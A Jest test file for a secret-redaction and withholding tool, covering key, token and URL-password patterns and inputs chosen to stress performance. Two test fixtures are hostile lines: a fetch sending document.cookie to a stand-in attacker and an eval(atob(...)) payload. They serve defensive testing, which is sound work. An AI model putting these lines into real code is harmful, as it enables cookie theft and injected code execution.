import { describe, expect, test } from '@jest/globals';
import { SECRET_PATTERNS } from './patterns.ts';
import { countRedactions, redactLines } from './redact.ts';
import { withhold } from './withhold.ts';

const redact = (line: string): string => redactLines([line])[0] ?? '';

describe.each(SECRET_PATTERNS)('pattern $id', ({ id, examples }) => {
  test.each(examples.match)('takes the secret out of %j', (example) => {
    const safe = redact(`before ${example}`);
    expect(safe).toContain('before ');
    expect(safe).toMatch(/\[REDACTED:[a-z-]+\]/u);
    expect(countRedactions([safe])).toEqual({ [id]: 1 });
  });

  test.each(examples.noMatch)('leaves %j alone', (example) => {
    expect(redact(example)).toBe(example);
  });
});

describe('redaction', () => {
  test('keeps the code around the secret', () => {
    expect(redact('db = connect("postgres://app:hunter2hunter2@db/app") // x')).toBe(
      'db = connect("postgres://app:[REDACTED:url-password]@db/app") // x',
    );
  });

  test('takes a private key out line by line and keeps the number of lines', () => {
    const body = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7'.padEnd(64, 'x');
    const lines = ['a', '-----BEGIN PRIVATE KEY-----', body, body, '-----END PRIVATE KEY-----', 'b'];
    expect(redactLines(lines)).toEqual([
      'a',
      '-----BEGIN PRIVATE KEY-----',
      '[REDACTED:private-key]',
      '[REDACTED:private-key]',
      '-----END PRIVATE KEY-----',
      'b',
    ]);
  });

  test('code cannot hide behind a marker of a key', () => {
    const lines = ['// -----BEGIN RSA PRIVATE KEY-----', 'fetch(attacker + document.cookie);', 'steal'];
    expect(redactLines(lines)).toEqual(lines);
  });

  test('code cannot hide by being assigned to a secret’s name', () => {
    const code = 'const token = eval(atob(location.hash.slice(1)));';
    expect(redact(code)).toBe(code);
  });

  test('a secret that straddles the cut of a long line is still taken out', () => {
    const secret = `ghp_${'aB3dE6gH9j'.repeat(4).slice(0, 36)}`;
    const safe = redact(`${'x '.repeat(990)}${secret} ${'y'.repeat(5000)}`);
    expect(safe.length).toBeLessThanOrEqual(2000);
    expect(safe).not.toContain(secret.slice(0, 12));
  });

  test('hostile lines take no time', () => {
    const hostile = [
      'secret'.repeat(100_000),
      `token${' '.repeat(100_000)}=`,
      'eyJ'.repeat(100_000),
      'a://'.repeat(100_000),
    ];
    const started = performance.now();
    redactLines(hostile);
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

describe('withholding', () => {
  const secret = 'key-4f7Q2zX9pL0vB6nM3tR8';

  test.each([
    ['the whole', `a ${secret} b`, 'a [WITHHELD] b'],
    ['all but the last seven characters', `a ${secret.slice(0, -7)} b`, 'a [WITHHELD] b'],
    ['its end', `a ${secret.slice(8)} b`, 'a [WITHHELD] b'],
    ['two pieces', `${secret.slice(0, 12)}-${secret.slice(12)}`, '[WITHHELD]-[WITHHELD]'],
    ['eleven characters, which are no help', secret.slice(0, 11), secret.slice(0, 11)],
    ['nothing', 'a sentence about nothing', 'a sentence about nothing'],
  ])('%s', (_, text, safe) => {
    expect(withhold(text, [secret])).toBe(safe);
  });

  test('without a secret nothing is withheld', () => {
    expect(withhold('text', [])).toBe('text');
    expect(withhold('text', [''])).toBe('text');
  });
});
